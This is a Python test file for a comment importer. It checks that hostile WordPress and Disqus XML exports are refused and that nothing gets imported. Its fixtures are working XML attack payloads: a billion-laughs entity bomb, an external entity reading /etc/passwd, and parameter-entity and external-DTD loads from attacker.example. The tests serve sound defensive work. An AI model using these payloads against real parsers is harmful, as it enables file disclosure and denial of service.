"""Hostile XML is refused before anything is written."""

from __future__ import annotations

from pathlib import Path

import pytest

from talkback.importers.formats.disqus import DISQUS
from talkback.importers.formats.safe_xml import UnsafeXml
from talkback.importers.formats.wordpress import WORDPRESS
from talkback.importers.run import Source
from tests.importers.conftest import Importing

ITEM = """<item><title>{title}</title><link>https://news.example/a/</link>
<wp:comment><wp:comment_id>1</wp:comment_id>
<wp:comment_content>{body}</wp:comment_content></wp:comment></item>"""

BILLION_LAUGHS = (
    """<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel>
"""
    + ITEM.format(title="Laughs", body="&lol3;")
    + "</channel></rss>"
)

EXTERNAL_ENTITY = (
    """<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel>
"""
    + ITEM.format(title="Leak", body="&secret;")
    + "</channel></rss>"
)

PARAMETER_ENTITY = (
    """<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel>
"""
    + ITEM.format(title="Remote", body="x")
    + "</channel></rss>"
)

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE disqus SYSTEM "http://attacker.example/disqus.dtd">
<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals">
<thread dsq:id="1"><link>https://news.example/a/</link></thread>
<post dsq:id="2"><message>x</message><createdAt>2020-01-01T00:00:00Z</createdAt>
<thread dsq:id="1"/></post></disqus>"""


@pytest.mark.parametrize(
    ("source", "document", "complaint"),
    [
        (WORDPRESS, BILLION_LAUGHS, "declares entities (lol, lol1, lol2, lol3)"),
        (WORDPRESS, EXTERNAL_ENTITY, "declares entities (secret)"),
        (WORDPRESS, PARAMETER_ENTITY, "declares entities (remote)"),
        (DISQUS, EXTERNAL_DTD, "external DTD (http://attacker.example/disqus.dtd)"),
    ],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd"],
)
@pytest.mark.parametrize("lenient", [False, True], ids=["strict", "lenient"])
async def test_hostile_xml_is_refused_and_nothing_is_written(
    api: Importing,
    tmp_path: Path,
    source: Source,
    document: str,
    complaint: str,
    lenient: bool,
) -> None:
    export = tmp_path / "hostile.xml"
    export.write_text(document, encoding="utf-8")

    with pytest.raises(UnsafeXml) as refusal:
        await api.run(source, export, lenient=lenient)

    assert complaint in refusal.value.message
    assert "Nothing was imported" in refusal.value.message
    assert await api.rows() == []
    assert await api.threads() == []


async def test_a_plain_doctype_without_declarations_is_fine(api: Importing, tmp_path: Path) -> None:
    export = tmp_path / "plain.xml"
    export.write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE rss>\n<rss xmlns:wp="http://wordpress.org/export/1.2/">'
        "<channel>" + ITEM.format(title="Plain", body="Fine &amp; dandy") + "</channel></rss>",
        encoding="utf-8",
    )

    summary = await api.run(WORDPRESS, export)

    assert summary.comments_imported == 1
    [row] = await api.rows()
    assert row.text == "Fine & dandy"
